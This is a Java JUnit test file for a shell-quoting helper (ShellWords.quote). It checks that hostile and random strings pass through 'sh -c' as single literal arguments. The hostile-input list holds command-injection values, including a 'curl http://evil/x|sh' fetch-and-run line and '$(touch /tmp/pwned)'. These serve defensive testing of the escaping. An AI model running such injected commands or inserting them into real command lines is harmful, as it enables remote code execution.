package io.discordination.ops.text;

import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

import static org.assertj.core.api.Assertions.assertThat;

class ShellWordsTest {

    /** What {@code sh} makes of {@code words}: each argument printed on its own NUL-terminated line. */
    private static List<String> throughTheShell(String words) throws IOException, InterruptedException {
        Process p = new ProcessBuilder("sh", "-c", "printf '%s\\0' " + words).redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(p.waitFor()).as(out).isZero();
        List<String> args = new ArrayList<>(List.of(out.split("\0", -1)));
        args.remove(args.size() - 1);
        return args;
    }

    @Test
    void quote_whenValuesAreHostile_theShellSeesEachAsOneUnchangedWord() throws Exception {
        List<String> hostile = List.of("db.r6g.large; curl http://evil/x|sh", "$(touch /tmp/pwned)", "`id`", "a'b", "''", "'",
                "x\ny", "\\", "*", "~root", "a b\tc", "--option", "ünïcödé", "", "%s", "!!", "#comment", "{a,b}", ">out");
        StringBuilder words = new StringBuilder();
        for (String h : hostile) words.append(' ').append(ShellWords.quote(h));
        assertThat(throughTheShell(words.toString())).containsExactlyElementsOf(hostile);
    }

    @Test
    void quote_whenRandomText_roundTripsThroughTheShell() throws Exception {
        Random random = new Random(42);
        String alphabet = "ab ;|&$`'\"\\\n\t*?[]{}()<>!#~=%,.:/@+-";
        List<String> values = new ArrayList<>();
        StringBuilder words = new StringBuilder();
        for (int i = 0; i < 200; i++) {
            StringBuilder v = new StringBuilder();
            for (int j = random.nextInt(12); j > 0; j--) v.append(alphabet.charAt(random.nextInt(alphabet.length())));
            values.add(v.toString());
            words.append(' ').append(ShellWords.quote(v.toString()));
        }
        assertThat(throughTheShell(words.toString())).containsExactlyElementsOf(values);
    }

    @Test
    void quote_whenSafe_leavesTheValueReadable() {
        assertThat(ShellWords.quote("voice:1180000000000000101")).isEqualTo("voice:1180000000000000101");
        assertThat(ShellWords.quote("203.0.113.7/32,2001:db8::/64")).isEqualTo("203.0.113.7/32,2001:db8::/64");
        assertThat(ShellWords.quote("a b")).isEqualTo("'a b'");
        // SQL with literals reads as typed; a value the shell would expand inside double quotes stays in single ones
        assertThat(ShellWords.quote("SELECT 1 WHERE x = 'y'")).isEqualTo("\"SELECT 1 WHERE x = 'y'\"");
        assertThat(ShellWords.quote("it's $HOME")).isEqualTo("'it'\\''s $HOME'");
        assertThat(ShellWords.quote("it's here!")).isEqualTo("'it'\\''s here!'");
        assertThat(ShellWords.singleQuoted("x")).isEqualTo("'x'");
    }
}
